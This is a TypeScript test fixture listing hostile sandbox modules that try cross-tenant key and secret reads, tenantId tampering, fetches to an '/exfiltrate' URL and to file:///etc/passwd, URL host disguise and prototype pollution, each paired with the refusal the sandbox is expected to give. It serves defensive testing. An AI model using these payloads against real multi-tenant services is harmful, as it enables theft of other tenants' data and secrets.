/**
 * Attacks on the capability bridge: other tenants' data and secrets, undeclared secrets and hosts,
 * tampering with ctx, and prototype pollution through returned values.
 */
import type { HostilePayload } from './hostile-payload.ts';

/** Bridge attacks; the runner's victim tenant holds kv key 'api-token' and secret 'OPENAI_KEY'. */
export const bridgePayloads: HostilePayload[] = [
  {
    name: "reading another tenant's kv data by key",
    module:
      "export async function run(config, ctx) { const out = []; for (const key of ['api-token', 'victim:api-token', '../victim/api-token', 'victim/api-token']) out.push(await ctx.kv.get(key)); return out; }",
    permissions: { kv: true },
    outcome: { value: [null, null, null, null] },
  },
  {
    name: "rewriting ctx.tenantId to reach another tenant's kv",
    module:
      "export async function run(config, ctx) { let refused = false; try { ctx.tenantId = 'victim'; } catch { refused = true; } try { Object.defineProperty(ctx, 'tenantId', { value: 'victim' }); } catch { refused = true; } return { refused, tenant: ctx.tenantId, token: (await ctx.kv.get('api-token')) ?? null }; }",
    permissions: { kv: true },
    outcome: { value: { refused: true, tenant: 'attacker', token: null } },
  },
  {
    name: "reading another tenant's secret through a declared name",
    module:
      "export async function run(config, ctx) { return (await ctx.secrets.get('OPENAI_KEY')) ?? 'none'; }",
    permissions: { secrets: ['OPENAI_KEY'] },
    outcome: { value: 'attacker-openai-key' },
  },
  {
    name: 'a secret that is not declared is refused',
    module: "export async function run(config, ctx) { return await ctx.secrets.get('DB_PASSWORD'); }",
    permissions: { secrets: ['OPENAI_KEY'] },
    outcome: { error: /^secret 'DB_PASSWORD' is not declared in the permissions of test\/hostile$/ },
  },
  {
    name: 'fetch to an undeclared host is refused',
    module:
      "export async function run(config, ctx) { return (await ctx.fetch('http://' + config.origin + '/exfiltrate?data=1')).body; }",
    permissions: { net: ['api.example.com'] },
    outcome: {
      error: /^fetch to '127\.0\.0\.1:\d+' is not allowed: test\/hostile may only reach api\.example\.com$/,
    },
  },
  {
    name: 'fetch with credentials in the URL to disguise the host',
    module:
      "export async function run(config, ctx) { return (await ctx.fetch('http://api.example.com@' + config.origin + '/x')).body; }",
    permissions: { net: ['api.example.com'] },
    outcome: { error: /is not allowed/ },
  },
  {
    name: 'fetch to file: and other protocols',
    module:
      "export async function run(config, ctx) { const out = []; for (const url of ['file:///etc/passwd', 'data:text/plain,hi', 'ftp://api.example.com/']) { try { await ctx.fetch(url); out.push('fetched'); } catch (e) { out.push('refused'); } } return out; }",
    permissions: { net: ['api.example.com'] },
    outcome: { value: ['refused', 'refused', 'refused'] },
  },
  {
    name: 'no capabilities at all without permissions',
    module:
      'export function run(config, ctx) { return [typeof ctx.fetch, typeof ctx.kv, typeof ctx.secrets, typeof ctx.data, typeof ctx.llm]; }',
    outcome: { value: ['undefined', 'undefined', 'undefined', 'undefined', 'undefined'] },
  },
  {
    name: 'oversized capability arguments are refused',
    module: "export async function run(config, ctx) { return await ctx.kv.set('k', 'x'.repeat(200000)); }",
    permissions: { kv: true },
    outcome: { error: /over the limit of 100000 bytes/ },
  },
  {
    name: 'prototype pollution through a returned __proto__ key',
    code: 'return JSON.parse(\'{ "__proto__": { "polluted": true }, "a": 1 }\');',
    outcome: { value: { a: 1 } },
  },
  {
    name: 'prototype pollution through constructor.prototype in the output',
    code: 'return { constructor: { prototype: { polluted: true } } };',
    outcome: { value: { constructor: { prototype: { polluted: true } } } },
  },
  {
    name: "polluting the sandbox's own intrinsics does not reach another tenant",
    module:
      "export function run(config) { if (config.attack) { Object.prototype.polluted = 'yes'; JSON.stringify = () => '\"hijacked\"'; Array.prototype.map = () => ['hijacked']; } return { seen: ({}).polluted ?? null, mapped: [1].map((x) => x + 1) }; }",
    config: { attack: true },
    outcome: { value: { seen: 'yes', mapped: ['hijacked'] } },
    thenAs: { tenant: 'victim', config: {}, value: { seen: null, mapped: [2] } },
  },
];
